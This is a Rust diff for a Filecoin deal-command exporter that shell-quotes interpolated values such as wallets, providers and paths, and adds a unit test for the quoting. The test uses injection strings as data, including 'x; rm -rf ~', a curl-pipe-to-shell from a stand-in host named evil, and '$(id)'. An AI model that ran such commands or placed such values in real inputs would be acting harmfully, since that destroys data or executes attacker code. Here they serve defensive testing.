@@ -50,8 +50,29 @@ impl Default for DealParams {
 /// Default deal duration of Boost and Curio (180 days of epochs).
 pub const DEFAULT_DURATION: u64 = 518_400;
 
-fn or<'a>(v: &'a Option<String>, placeholder: &'a str) -> &'a str {
-    v.as_deref().unwrap_or(placeholder)
+/// `s` as one shell word: unchanged when it holds only `A-Z a-z 0-9 _ - . , / : = @ % +`, else
+/// in single quotes (a `'` inside becomes `'\''`). Exported commands quote every value they
+/// interpolate, so a price, wallet or path can never run as shell code.
+pub fn shell_word(s: &str) -> std::borrow::Cow<'_, str> {
+    let plain = |c: char| c.is_ascii_alphanumeric() || "_-.,/:=@%+".contains(c);
+    if !s.is_empty() && s.chars().all(plain) {
+        std::borrow::Cow::Borrowed(s)
+    } else {
+        std::borrow::Cow::Owned(format!("'{}'", s.replace('\'', "'\\''")))
+    }
+}
+
+/// A value for a comment line: control characters escaped, so it stays on its line.
+fn comment_text(s: &str) -> String {
+    s.chars().flat_map(|c| if c.is_control() { c.escape_default().collect::<Vec<_>>() } else { vec![c] }).collect()
+}
+
+/// A given value as a shell word, or the placeholder (left for the operator to fill in).
+fn or<'a>(v: &'a Option<String>, placeholder: &'a str) -> std::borrow::Cow<'a, str> {
+    match v {
+        Some(s) => shell_word(s),
+        None => std::borrow::Cow::Borrowed(placeholder),
+    }
 }
 
 /// The piece a deal is for.
@@ -91,14 +112,14 @@ pub fn boost_command(p: &DealParams, piece: &DealPiece<'_>) -> String {
         p.verified,
     );
     if let Some(w) = &p.wallet {
-        s.push_str(&format!(" --wallet={w}"));
+        s.push_str(&format!(" --wallet={}", shell_word(w)));
     }
     s
 }
 
 /// Lotus legacy `client deal` (UNPADDED piece size, which Lotus expects).
 pub fn lotus_command(p: &DealParams, piece: &DealPiece<'_>) -> String {
-    let from = p.wallet.as_ref().map(|w| format!("--from={w} ")).unwrap_or_default();
+    let from = p.wallet.as_ref().map(|w| format!("--from={} ", shell_word(w))).unwrap_or_default();
     format!(
         "lotus client deal {from}--manual-piece-cid={} --manual-piece-size={} --verified-deal={} {} {} {} {}",
         piece.piece_cid,
@@ -113,7 +134,7 @@ pub fn lotus_command(p: &DealParams, piece: &DealPiece<'_>) -> String {
 
 /// Curio `sptool … mk12-client offline-deal` (padded piece size, `--verified` explicit).
 pub fn curio_command(p: &DealParams, piece: &DealPiece<'_>) -> String {
-    let actor = p.actor.as_ref().or(p.provider.as_ref()).map(String::as_str).unwrap_or("<actor>");
+    let actor = p.actor.as_ref().or(p.provider.as_ref()).map(|a| shell_word(a)).unwrap_or("<actor>".into());
     let mut s = format!(
         "sptool --actor {actor} toolbox mk12-client offline-deal --provider {} --commp {} --piece-size {} --payload-cid {} --duration {} --storage-price {} --verified={}",
         or(&p.provider, "<miner>"),
@@ -125,7 +146,7 @@ pub fn curio_command(p: &DealParams, piece: &DealPiece<'_>) -> String {
         p.verified,
     );
     if let Some(w) = &p.wallet {
-        s.push_str(&format!(" --wallet {w}"));
+        s.push_str(&format!(" --wallet {}", shell_word(w)));
     }
     s
 }
@@ -186,20 +207,28 @@ pub fn export(format: Format, p: &DealParams, batches: &[(&BatchResult, String)]
             for (r, car) in batches {
                 let piece = DealPiece::from(*r);
                 out.push_str(&format!(
-                    "\n# {}: {car} ({} bytes, piece {} padded / {} unpadded)\n",
-                    r.batch, r.car_size, r.piece_size, r.piece_size_unpadded
+                    "\n# {}: {} ({} bytes, piece {} padded / {} unpadded)\n",
+                    r.batch,
+                    comment_text(car),
+                    r.car_size,
+                    r.piece_size,
+                    r.piece_size_unpadded
                 ));
                 match format {
                     Format::Lotus => out.push_str(&lotus_command(p, &piece)),
                     Format::Boost => {
                         out.push_str(&boost_command(p, &piece));
-                        out.push_str(&format!("\n# SP: boostd import-data <deal-uuid> {car}"));
+                        out.push_str(&format!(
+                            "\n# SP: boostd import-data <deal-uuid> {}",
+                            comment_text(&shell_word(car))
+                        ));
                     }
                     _ => {
                         out.push_str(&curio_command(p, &piece));
                         out.push_str(&format!(
                             "\n# SP: curio market add-url --url <url-of-{}> <deal-uuid> {}",
-                            r.batch, r.car_size
+                            comment_text(&r.batch),
+                            r.car_size
                         ));
                     }
                 }
@@ -208,4 +237,30 @@ pub fn export(format: Format, p: &DealParams, batches: &[(&BatchResult, String)]
         }
     }
     out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn interpolated_values_are_quoted_for_the_shell() {
+        assert_eq!(shell_word("f01234"), "f01234");
+        assert_eq!(shell_word("0.0000001"), "0.0000001");
+        assert_eq!(shell_word("x; rm -rf ~"), "'x; rm -rf ~'");
+        assert_eq!(shell_word("it's"), r"'it'\''s'");
+        assert_eq!(shell_word(""), "''");
+        let p = DealParams {
+            provider: Some("f01234 && curl evil|sh".into()),
+            wallet: Some("$(id)".into()),
+            ..DealParams::default()
+        };
+        let piece = DealPiece { payload_cid: "bafy", piece_cid: "baga", piece_size: 128, piece_size_unpadded: 127 };
+        let boost = boost_command(&p, &piece);
+        assert!(boost.contains("--provider='f01234 && curl evil|sh'") && boost.contains("--wallet='$(id)'"), "{boost}");
+        assert!(lotus_command(&p, &piece).contains("--from='$(id)'"));
+        assert!(curio_command(&p, &piece).starts_with("sptool --actor 'f01234 && curl evil|sh'"));
+        // Placeholders stay as they are, for the operator to fill in.
+        assert!(boost_command(&DealParams::default(), &piece).contains("--provider=<miner>"));
+    }
 }
